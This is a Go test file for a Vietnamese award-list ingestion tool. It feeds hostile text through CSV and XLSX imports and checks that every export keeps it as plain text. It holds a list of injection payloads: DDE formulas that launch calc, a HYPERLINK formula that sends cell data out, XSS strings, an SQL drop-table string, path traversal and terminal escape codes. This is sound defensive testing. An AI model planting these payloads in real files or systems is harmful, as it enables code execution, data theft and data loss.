package main

import (
	"archive/zip"
	"bytes"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/apache/arrow-go/v18/arrow/array"
	"github.com/apache/arrow-go/v18/arrow/ipc"
	"github.com/xuri/excelize/v2"
	"golang.org/x/text/unicode/norm"

	"tdkt/ingest/load"
	"tdkt/queries/door/format"
)

// ownVectors are texts that a program may take for something else than text.
var ownVectors = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "'=1+1", "=cmd|'/c calc'!A0", "x;=cmd|'/c calc'!A0;y", "%1", "|1+1", `=HYPERLINK("http://a.b?c="&A1,"x")`,
	"＝1+1", "a\n=1+1", "a\"b", "\"", "''", ";", ",", "a,b;c\td", "\\", "\\n", "NULL", "null", "true", "1E2", "0001", "1,0", "#N/A", "#REF!", "-", "--", "0x1F", "Infinity", "NaN",
	"<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "]]>", "<!--", "{{.}}", "${7*7}", "javascript:alert(1)", `" onmouseover="alert(1)`,
	"a\x1b[31mb", "\u009b31mb", "a\u202eb", "a\u2028b", "_x0041_", "_x000D_", "a\u0300\u0301", "田中さん", "🏳️‍🌈", "'; drop table fct_award; --", "%s%n%d", "../../etc/passwd", "CON", "ﷺ", "Ω≈ç√∫˜µ≤≥÷",
}

// vectors are our own and, with TDKT_CORPUS, those of others; each once, as a reader sees it, and none that shows nothing.
func vectors(t testing.TB) []string {
	t.Helper()
	all := slices.Clone(ownVectors)
	dir := os.Getenv("TDKT_CORPUS")
	if dir == "" {
		t.Log("TDKT_CORPUS does not name the folder of published test files: only our own texts are tried")
	} else {
		var listed []string
		if err := json.Unmarshal(mustRead(t, filepath.Join(dir, "hostile", "blns.json")), &listed); err != nil {
			t.Fatal(err)
		}
		all = append(all, listed...)
		all = append(all, strings.Split(string(mustRead(t, filepath.Join(dir, "hostile", "csv_injection_payloadbox_v2.txt"))), "\n")...)
		for _, line := range strings.Split(strings.TrimSpace(string(mustRead(t, filepath.Join(dir, "hostile", "defusedcsv_vectors.jsonl")))), "\n") {
			var v struct{ Input string }
			if err := json.Unmarshal([]byte(line), &v); err != nil {
				t.Fatal(err)
			}
			all = append(all, v.Input)
		}
	}
	seen := map[string]bool{}
	return slices.DeleteFunc(all, func(s string) bool {
		text := seenAs(s)
		again := seen[text]
		seen[text] = true
		return again || strings.TrimFunc(text, unicode.IsSpace) == "" || len(s) > 4000
	})
}

// seenAs is a text as its reader sees it: composed, hard blanks as blanks, without marks that show nothing, Ð as Đ.
func seenAs(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r == '\u00a0' || r == '\u202f':
			return ' '
		case r >= '\u200b' && r <= '\u200f', r == '\u2060', r == '\ufeff':
			return -1
		case r == '\u00ad':
			return -1
		case r == 'Ð':
			return 'Đ'
		case r == 'ð':
			return 'đ'
		}
		return r
	}, norm.NFC.String(s))
}

func mustRead(t testing.TB, path string) []byte {
	t.Helper()
	content, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return content
}

// hostileRows are the rows of a list in which each text stands as workplace, movement and note.
func hostileRows(unit string, texts []string) [][]string {
	rows := [][]string{{"UBND TỈNH PHÚ THỌ"}, {unit}, {"DANH SÁCH CÁ NHÂN ĐƯỢC KHEN THƯỞNG NĂM 2024"},
		{"STT", "Họ và tên", "Đơn vị công tác", "Hình thức khen thưởng", "Phong trào thi đua", "Số quyết định", "Ngày quyết định", "Ghi chú"}}
	for i, s := range texts {
		rows = append(rows, []string{fmt.Sprint(i + 1), fmt.Sprintf("Nguyễn Thị Bịa %d", i), s, "Lao động tiên tiến", s, fmt.Sprintf("%d/QĐ-SYT", i), "20/12/2024", s})
	}
	return rows
}

func writeHostileCSV(t testing.TB, at string, rows [][]string) {
	var b bytes.Buffer
	for _, row := range rows {
		for i, s := range row {
			if i > 0 {
				b.WriteByte(',')
			}
			b.WriteString(`"` + strings.ReplaceAll(s, `"`, `""`) + `"`)
		}
		b.WriteString("\r\n")
	}
	if err := os.WriteFile(at, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

// writeHostileXLSX writes each text as XML can hold it: what it cannot, as _xHHHH_.
func writeHostileXLSX(t testing.TB, at string, rows [][]string) {
	escaped := regexp.MustCompile(`_x[0-9A-Fa-f]{4}_`)
	var b strings.Builder
	for i, row := range rows {
		fmt.Fprintf(&b, `<row r="%d">`, i+1)
		for _, s := range row {
			s = escaped.ReplaceAllStringFunc(s, func(m string) string { return "_x005F" + m })
			var x strings.Builder
			for _, r := range s {
				switch {
				case r < 0x20 && r != '\n' && r != '\t', r == 0xfffe, r == 0xffff:
					fmt.Fprintf(&x, "_x%04X_", r)
				case r == '<':
					x.WriteString("&lt;")
				case r == '&':
					x.WriteString("&amp;")
				default:
					x.WriteRune(r)
				}
			}
			b.WriteString(`<c t="inlineStr"><is><t xml:space="preserve">` + x.String() + `</t></is></c>`)
		}
		b.WriteString("</row>")
	}
	if err := os.WriteFile(at, xlsxBomb(t, inSheet("", stretch{b.String(), 1}), nil, nil), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestHostileTextIsOnlyText: what a cell says comes out as it is where text comes out, and nothing takes it for a formula, a
// tag or a command: not a spreadsheet, not a browser, not a terminal.
func TestHostileTextIsOnlyText(t *testing.T) {
	texts := vectors(t)
	dir, out, feedback := t.TempDir(), t.TempDir(), t.TempDir()
	odd := "<img src=x onerror=alert(1)>\x1b[31m.csv"
	writeHostileCSV(t, filepath.Join(dir, odd), hostileRows("SỞ Y TẾ", texts))
	writeHostileXLSX(t, filepath.Join(dir, "h.xlsx"), hostileRows("SỞ TƯ PHÁP", texts))
	db := filepath.Join(t.TempDir(), "w.duckdb")
	said := call(t, "run", dir, "--db", db, "--out", out, "--feedback", feedback)
	noCommands(t, "what run says", said.out+strings.ReplaceAll(said.err, "\r", ""))
	rawIsExact(t, db, texts)

	const query = "select distinct movement from fct_award order by movement"
	var got []struct{ Movement string }
	if err := json.Unmarshal([]byte(mustCall(t, exitDone, "sql", query, "--db", db, "--format", "json").out), &got); err != nil {
		t.Fatal(err)
	}
	want := map[string]bool{}
	for _, s := range texts {
		want[seenAs(s)] = true
		want[strings.TrimSpace(seenAs(s))] = true
	}
	var movements []string
	for _, g := range got {
		movements = append(movements, g.Movement)
		if !want[g.Movement] {
			t.Errorf("the movement %q is none that was given", g.Movement)
		}
	}
	if len(movements) < len(texts)*9/10 {
		t.Fatalf("%d of %d movements came through; the returns were refused?\n%s", len(movements), len(texts), clip(said.out))
	}
	file := func(ending string) string {
		at := filepath.Join(t.TempDir(), "x."+ending)
		mustCall(t, exitDone, "sql", query, "--db", db, "--format", ending, "--out", at)
		return at
	}
	csvIsNeutral(t, mustCall(t, exitDone, "sql", query, "--db", db, "--format", "csv").out, movements)
	xlsxIsText(t, file("xlsx"), movements)
	parquetIsExact(t, file("parquet"), movements)
	arrowIsExact(t, file("arrow"), movements)
	noCommands(t, "a table", mustCall(t, exitDone, "sql", query, "--db", db, "--format", "table").out)
	noCommands(t, "status", mustCall(t, exitDone, "status", "--db", db).out)
	filesAreNeutral(t, texts, out, feedback)
}

// rawIsExact holds the cells that the warehouse keeps against what was given.
func rawIsExact(t *testing.T, at string, texts []string) {
	t.Helper()
	db, err := sql.Open("duckdb", at+"?access_mode=read_only")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	type cell struct{ file, place, text string }
	cells, err := load.Gather(t.Context(), db, "select r.file_name, c.source_cell, c.cell_text from raw_cell c join raw_return r using (return_id)",
		func(rows *sql.Rows) (c cell, err error) { return c, rows.Scan(&c.file, &c.place, &c.text) })
	if err != nil {
		t.Fatal(err)
	}
	held := map[[2]string]string{}
	for _, c := range cells {
		held[[2]string{filepath.Ext(c.file), c.place}] = c.text
	}
	for _, column := range []string{"C", "E", "H"} {
		line := 5
		for i, s := range texts {
			if got := held[[2]string{".csv", fmt.Sprintf("%s%d", column, line)}]; got != seenAs(s) {
				t.Errorf("csv: %q is kept as %q", s, got)
			}
			if got := held[[2]string{".xlsx", fmt.Sprintf("%s%d", column, i+5)}]; got != seenAs(s) {
				t.Errorf("xlsx: %q is kept as %q", s, got)
			}
			line += 1 + 3*strings.Count(strings.ReplaceAll(s, "\r\n", "\n"), "\n")
		}
	}
}

// noCommands holds what goes to a terminal: no character but a line's end drives it or turns its writing.
func noCommands(t *testing.T, what, text string) {
	t.Helper()
	for _, line := range strings.Split(text, "\n") {
		if i := strings.IndexFunc(line, func(r rune) bool {
			return unicode.IsControl(r) || r == 0x2028 || r == 0x2029 || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069
		}); i >= 0 {
			t.Errorf("%s has %q in %q", what, line[i:min(len(line), i+4)], clip(line))
		}
	}
}

var startsFormula = regexp.MustCompile(`^[=+\-@%|\t＝＋－＠]`)

// csvIsNeutral reads a CSV as spreadsheets do, with commas and, as in Vietnam, with semicolons: no cell begins a formula.
func csvIsNeutral(t *testing.T, text string, want []string) {
	t.Helper()
	records, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(records) != len(want)+1 {
		t.Fatal(len(records), err)
	}
	plain := regexp.MustCompile(`^[+-]?[0-9.,]+$`)
	var back []string
	for _, r := range records[1:] {
		back = append(back, format.Restore(r[0]))
		if startsFormula.MatchString(r[0]) && !plain.MatchString(r[0]) {
			t.Errorf("a CSV has the formula %q", r[0])
		}
	}
	sameTexts(t, "csv", back, want)
	for _, line := range strings.FieldsFunc(text, func(r rune) bool { return r == '\n' || r == '\r' }) {
		for i, cell := range strings.Split(line, ";") {
			if i > 0 && startsFormula.MatchString(cell) {
				t.Errorf("parted by semicolons, a CSV has the formula %q in %q", cell, line)
			}
		}
	}
}

func sameTexts(t *testing.T, what string, got, want []string) {
	t.Helper()
	for _, s := range want {
		if !slices.Contains(got, s) {
			t.Errorf("%s: %q is not given as it is", what, s)
		}
	}
	if len(got) != len(want) {
		t.Errorf("%s: %d texts, want %d", what, len(got), len(want))
	}
}

func xlsxIsText(t *testing.T, at string, want []string) {
	t.Helper()
	f, err := excelize.OpenFile(at)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(f.GetSheetName(0), excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range rows[1:] {
		got = append(got, strings.Join(r, ""))
	}
	var seen []string
	for _, s := range want { // XML holds no character that drives a terminal
		seen = append(seen, strings.Map(func(r rune) rune {
			if r < 0x20 && r != '\t' && r != '\n' && r != '\r' {
				return '\ufffd'
			}
			return r
		}, s))
	}
	sameTexts(t, "xlsx", got, seen)
	noFormulas(t, at)
}

// ownFormulas are those of the forms to be signed, sums and ratios of their own cells, and of the summary workbook, which also asks whether
// anything is stated and shows cells of its sheets; a sheet's name is a text of ours.
var ownFormulas = regexp.MustCompile(`<f>(IF\(COUNT\([A-Z0-9:,]+\)(=0|&lt;[23]),&#34;&#34;,[A-Z0-9:,=()/&#34;SUMIF-]+\)|&#39;[\pL ,]+&#39;![A-Z]+[0-9]+(-[A-Z]+[0-9]+)*|SUM\([A-Z]+[0-9]+:[A-Z]+[0-9]+\)|[A-Z]+[0-9]+([+/][A-Z]+[0-9]+)*)</f>`)

// noFormulas holds every part of a workbook: no formula but our own, and nothing that is opened from outside.
func noFormulas(t *testing.T, at string) {
	t.Helper()
	z, err := zip.OpenReader(at)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	for _, f := range z.File {
		in, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		part, err := io.ReadAll(in)
		if err != nil {
			t.Fatal(err)
		}
		if filepath.Base(filepath.Dir(at)) == "bao-cao" {
			part = ownFormulas.ReplaceAll(part, nil)
		}
		if strings.HasPrefix(f.Name, "xl/worksheets/sheet") && (bytes.Contains(part, []byte("<f>")) || bytes.Contains(part, []byte("<f "))) ||
			strings.Contains(f.Name, "externalLink") {
			t.Errorf("%s: %s holds a formula", at, f.Name)
		}
	}
}

func parquetIsExact(t *testing.T, at string, want []string) {
	t.Helper()
	db, err := sql.Open("duckdb", "")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	got, err := load.Gather(t.Context(), db, "select movement from read_parquet('"+at+"')",
		func(rows *sql.Rows) (s string, err error) { return s, rows.Scan(&s) })
	if err != nil {
		t.Fatal(err)
	}
	sameTexts(t, "parquet", got, want)
}

func arrowIsExact(t *testing.T, at string, want []string) {
	t.Helper()
	r, err := ipc.NewFileReader(bytes.NewReader(mustRead(t, at)))
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	var got []string
	for batch := range r.NumRecords() {
		b, err := r.RecordBatch(batch)
		if err != nil {
			t.Fatal(err)
		}
		column, ok := b.Column(0).(*array.String)
		if !ok {
			t.Fatalf("%T", b.Column(0))
		}
		for i := range column.Len() {
			got = append(got, column.Value(i))
		}
	}
	sameTexts(t, "arrow", got, want)
}

// filesAreNeutral looks at every file of folders that a browser or a spreadsheet opens.
func filesAreNeutral(t *testing.T, texts []string, folders ...string) {
	t.Helper()
	pages, books := 0, 0
	for _, dir := range folders {
		err := filepath.WalkDir(dir, func(at string, d os.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			switch filepath.Ext(at) {
			case ".xlsx":
				books++
				noFormulas(t, at)
			case ".html":
				pages++
				page := string(mustRead(t, at))
				for _, s := range append(slices.Clone(texts), "<img src=x onerror=alert(1)>\x1b") {
					if tag := regexp.MustCompile(`<[a-zA-Z/!?]`); tag.MatchString(s) && s != "<!--" && strings.Contains(page, s) {
						t.Errorf("%s holds %q as it stands", at, s)
					}
				}
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	if pages < 3 || books < 3 {
		t.Errorf("%d pages and %d workbooks were looked at", pages, books)
	}
}
